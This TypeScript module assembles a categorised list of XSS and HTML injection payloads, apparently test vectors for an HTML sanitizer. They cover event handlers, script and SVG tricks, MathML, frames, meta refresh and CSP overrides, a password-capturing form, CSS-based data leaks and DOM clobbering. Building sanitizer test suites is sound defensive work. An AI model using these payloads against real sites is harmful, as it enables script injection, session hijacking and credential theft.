import type { Vector } from './payload';

/** Elements that run a handler without the user, with the attribute that does. */
const handlers = [
  '<img src=x onerror={js}>',
  '<img src="{url}" onload={js} onerror={js}>',
  '<body onload={js}>',
  '<svg onload={js}>',
  '<input autofocus onfocus={js}>',
  '<select autofocus onfocus={js}><option>{name}</select>',
  '<textarea autofocus onfocus={js}></textarea>',
  '<button autofocus onfocus={js}>{name}</button>',
  '<p tabindex=0 autofocus onfocus={js}>{name}</p>',
  '<details open ontoggle={js}><summary>{name}</summary></details>',
  '<video onerror={js}><source src=x></video>',
  '<audio src=x onerror={js}></audio>',
  '<video src="{url}" autoplay onloadstart={js}></video>',
  '<object data=x onerror={js}></object>',
  '<embed src=x onerror={js}>',
  '<link rel=stylesheet href=x onerror={js}>',
  '<style onload={js}>p{}</style>',
  '<script src=x onerror={js}></script>',
  '<iframe onload={js}></iframe>',
  '<marquee onstart={js}>{name}</marquee>',
  '<p style="animation:zz 1s" onanimationstart={js}>{name}</p><style>@keyframes zz{}</style>',
  '<p style="content-visibility:auto" oncontentvisibilityautostatechange={js}>{name}</p>',
  '<p popover id={name} onbeforetoggle={js}>x</p><button popovertarget={name} autofocus>x</button>',
  '<a href="#" onmouseover={js}>{name}</a>',
  '<p onclick={js} onpointerenter={js} onpointerrawupdate={js}>{name}</p>',
  '<p contenteditable onbeforeinput={js} onpaste={js}>{name}</p>',
  '<dialog open oncancel={js} onclose={js}>{name}</dialog>',
  '<x-zz onfocus={js} tabindex=0 autofocus>{name}</x-zz>',
  '<img src=x onerror=\u000b{js}>',
  '<img src=x onerror\u0000={js}>',
  '<p onscrollend={js} onwheel={js} style="overflow:auto">{name}</p>',
  '<form onformdata={js} onsubmit={js}><button autofocus>{name}</button></form>',
] as const;

const scripts = [
  '<script>{js}</script>',
  '<script src="{url}"></script>',
  '<script src="data:text/javascript,{js}"></script>',
  '<script type=module>{js}</script>',
  '<script type="text/javascript" defer>{js}</script>',
  '<script type=importmap>{"imports":{"x":"{url}"}}</script>',
  '<script type=speculationrules>{"prefetch":[{"urls":["{url}"]}]}</script>',
  '<script>/*</script>*/{js}//</script>',
  '<script><!--\n{js}//--></script>',
  '<script language=vbscript>msgbox "{name}"</script>',
  '<script\u000c>{js}</script\u000c>',
  '<scr<script>ipt>{js}</scr</script>ipt>',
  '<script x>{js}</script x="',
  '<template shadowrootmode=open><script>{js}</script></template>',
  '<template><script>{js}</script></template>',
  '<noscript><p title="</noscript><script>{js}</script>"></noscript>',
] as const;

const svg = [
  '<svg><script>{js}</script></svg>',
  '<svg><script href="data:text/javascript,{js}" /></svg>',
  '<svg><a href="javascript:{js}"><text y=20>{name}</text></a></svg>',
  '<svg><a xlink:href="javascript:{js}"><circle r=40 /></a></svg>',
  '<svg><a><animate attributeName=href values="javascript:{js}" /><text y=20>{name}</text></a></svg>',
  '<svg><a><set attributeName="xlink:href" to="javascript:{js}" /><text y=20>{name}</text></a></svg>',
  '<svg><animate onbegin={js} attributeName=x dur=1s /></svg>',
  '<svg><set onend={js} attributeName=x to=1 dur=0.1s /></svg>',
  "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>{js}</script></svg>#x\" /></svg>",
  '<svg><use href="{url}#x" /></svg>',
  '<svg><image href="{url}" /></svg>',
  '<svg><image xlink:href=x onerror={js} /></svg>',
  '<svg><filter id=zz><feImage href="{url}" /></filter><rect filter="url(#zz)" /></svg>',
  '<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.{js}</script>"></iframe></foreignObject></svg>',
  '<svg><style>@import "{url}";</style></svg>',
  '<svg><style>&lt;img src=x onerror={js}&gt;</style></svg>',
  '<svg><title><img src=x onerror={js}></title></svg>',
  '<svg><desc><script>{js}</script></desc></svg>',
  '<svg><handler type="text/javascript" ev:event=load>{js}</handler></svg>',
  '<svg style="background:url({url})" onload={js} />',
  '<svg><rect fill="url({url})" cursor="url({url}),auto" width=9 height=9 /></svg>',
  '<svg><switch><g onclick={js}><text y=20>{name}</text></g></switch></svg>',
  '<svg><animateTransform attributeName=transform onbegin={js} /></svg>',
] as const;

const mathml = [
  '<math href="javascript:{js}"><mi>{name}</mi></math>',
  '<math><mi xlink:href="javascript:{js}">{name}</mi></math>',
  '<math><maction actiontype="statusline#{url}" xlink:href="javascript:{js}">{name}</maction></math>',
  '<math><mtext><img src=x onerror={js}></mtext></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror={js}></annotation-xml></math>',
  '<math><annotation-xml><svg><foreignObject><script>{js}</script></foreignObject></svg></annotation-xml></math>',
  '<math><mglyph src="{url}" onerror={js} /></math>',
  '<math><ms style="background:url({url})" onclick={js}>{name}</ms></math>',
  '<math><semantics><annotation encoding="application/x-tex">\\href{javascript:{js}}{x}</annotation></semantics></math>',
  '<math><mi id=cookie name=cookie onpointerenter={js}>{name}</mi></math>',
] as const;

const frames = [
  '<iframe src="javascript:{js}"></iframe>',
  '<iframe srcdoc="<script>{js}</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=parent.{js}&gt;"></iframe>',
  '<iframe src="data:text/html,<script>{js}</script>"></iframe>',
  '<iframe src="{url}"></iframe>',
  '<iframe src="{url}" loading=lazy width=600 height=400 title="{name}"></iframe>',
  '<iframe src="https://www.youtube.com/embed/x?{name}=javascript:{js}"></iframe>',
  '<frameset><frame src="javascript:{js}"></frameset>',
  '<object data="javascript:{js}"></object>',
  '<object data="data:text/html,<script>{js}</script>" type="text/html"></object>',
  '<object data="{url}"><param name=url value="{url}"><img src=x onerror={js}></object>',
  '<embed src="javascript:{js}">',
  "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{name}'/>\">",
  '<applet code="{url}" archive="{url}"></applet>',
  '<portal src="{url}" onload={js}></portal>',
  '<fencedframe src="{url}"></fencedframe>',
  '<blockquote class="twitter-tweet"><a href="javascript:{js}">{name}</a></blockquote>',
  '<blockquote cite="javascript:{js}" class="instagram-media" data-instgrm-permalink="javascript:{js}">{name}</blockquote>',
] as const;

const documents = [
  '<base href="{url}/">',
  '<base href="javascript:{js}//" target=_top>',
  '<meta http-equiv=refresh content="0;url={url}">',
  '<meta http-equiv=refresh content="0;url=javascript:{js}">',
  '<meta http-equiv=refresh content="0;url=data:text/html,<script>{js}</script>">',
  '<meta http-equiv="Content-Security-Policy" content="script-src * \'unsafe-inline\'">',
  '<meta http-equiv="set-cookie" content="{name}=1">',
  '<meta name=referrer content=unsafe-url><img src="{url}">',
  '<meta charset=utf-7>+ADw-script+AD4-{js}+ADw-/script+AD4-',
  '<link rel=stylesheet href="{url}">',
  '<link rel=stylesheet href="data:text/css,@import \'{url}\';">',
  '<link rel=preload as=script href="{url}">',
  '<link rel=prefetch href="{url}"><link rel=prerender href="{url}">',
  '<link rel=modulepreload href="{url}">',
  '<link rel=icon href="{url}"><link rel=manifest href="{url}">',
  '<link rel=import href="{url}" onload={js}>',
  '<link rel=next href="{url}"><a rel=next href="{url}">Next page</a>',
  '<?xml-stylesheet href="{url}" type="text/css"?>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "{url}">]><p>&e;</p>',
  '</article></main></body></html><img src=x onerror={js}>',
] as const;

const forms = [
  '<form action="javascript:{js}"><button>{name}</button></form>',
  '<form action="{url}"><input name=password type=password autofocus><button>Log in</button></form>',
  '<form id={name}></form><button form={name} formaction="javascript:{js}">{name}</button>',
  '<input type=image src="{url}" formaction="javascript:{js}">',
  '<isindex action="javascript:{js}" type=image src=x onerror={js}>',
  '<form><input type=submit formaction="{url}" value="{name}"></form>',
  '<keygen autofocus onfocus={js}>',
  '<output onforminput={js}>{name}</output>',
  '<form target=_top action="data:text/html,<script>{js}</script>"><button>{name}</button></form>',
  '<label for=x onclick={js}>{name}</label>',
] as const;

const srcsets = [
  '<img srcset="{url} 1x, javascript:{js} 2x" alt="{name}">',
  '<img srcset="javascript:{js} 1x, data:text/html,{name} 2x" alt="{name}">',
  '<picture><source srcset="{url} 640w"><img src="{url}" alt="{name}"></picture>',
  '<picture><source srcset="javascript:{js}" onerror={js}><img alt="{name}"></picture>',
  '<img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'1\'/>" srcset="{url}, {url} 2x" sizes="{js}" alt="{name}">',
  '<img srcset="x" onerror={js} alt="{name}">',
  '<link rel=preload as=image imagesrcset="{url} 1x" imagesizes=1px>',
  '<img data-src="javascript:{js}" data-srcset="{url} 900w" class=lazyload alt="{name}">',
  '<figure><img srcset="{url} 900w,\njavascript:{js}\t300w" alt=\'"><img src=x onerror={js}>\'><figcaption>{name}</figcaption></figure>',
  '<amp-img src="{url}" srcset="javascript:{js} 2x" width=600 height=400></amp-img>',
] as const;

const css = [
  '<style>@import "{url}";</style>',
  '<style>*{background:url("{url}")!important}</style>',
  '<style>@font-face{font-family:zz;src:url({url})}p{font-family:zz}</style>',
  '<style>input[value^=a]{background:url({url})}</style>',
  '<p style="background:url({url})">{name}</p>',
  '<p style="background-image:\\75 rl({url})">{name}</p>',
  '<p style="list-style:url({url}) inside;display:list-item">{name}</p>',
  '<p style="width:expression({js})">{name}</p>',
  '<p style="-moz-binding:url({url}#x);behavior:url({url})">{name}</p>',
  '<p style="cursor:url({url}),auto;border-image:url({url})">{name}</p>',
  '<p style="position:fixed;inset:0;z-index:2147483647;opacity:0">{name}</p>',
  '<p style="background:image-set(\'{url}\' 1x)">{name}</p>',
  '<p style="--x:url({url});content:var(--x)">{name}</p>',
  '<table background="{url}"><tr><td background="{url}">{name}</td></tr></table>',
  '<font color="expression({js})" style="color:red;}*{background:url({url})}">{name}</font>',
  '<style>p{color:red}</style x><img src=x onerror={js}>',
  '<style>/*</style><img src=x onerror={js}>*/</style>',
  '<p class="{name} dialog button" style="@import \'{url}\'">{name}</p>',
] as const;

/** Names of properties that a script may read of a document, a form or an element. */
const clobbered = [
  ...['cookie', 'body', 'head', 'documentElement', 'querySelector', 'querySelectorAll', 'title'],
  ...[
    'children',
    'childNodes',
    'firstChild',
    'nextSibling',
    'parentNode',
    'attributes',
    'nodeName',
  ],
  ...['nodeType', 'textContent', 'innerHTML', 'tagName', 'localName', 'cloneNode', 'remove'],
  ...['getAttribute', 'removeChild', 'ownerDocument', 'baseURI', 'location', 'chrome', 'browser'],
] as const;

const clobbering = clobbered.flatMap((name, index) =>
  index % 2 === 0
    ? [
        `<form><input name=${name} value={name}><p>The harbour {name}</p></form>`,
        `<img name=${name} id=${name} alt={name}>`,
      ]
    : [
        `<form name=${name}><input id=${name} name=${name}><p>The harbour {name}</p></form>`,
        `<a id=${name}></a><a id=${name} name=${name} href="javascript:{js}">{name}</a>`,
      ],
);

const listed = (attack: Vector['attack'], texts: readonly string[]): readonly Vector[] =>
  texts.map((text) => ({ attack, kind: 'markup', text }));

/** Attacks by markup that are written out; `mutations.ts` composes others. */
export const markupVectors: readonly Vector[] = [
  ...listed('event handler', handlers),
  ...listed('script element', scripts),
  ...listed('SVG', svg),
  ...listed('MathML', mathml),
  ...listed('frame or plugin', frames),
  ...listed('whole document', documents),
  ...listed('form', forms),
  ...listed('srcset', srcsets),
  ...listed('CSS', css),
  ...listed('DOM clobbering', clobbering),
];
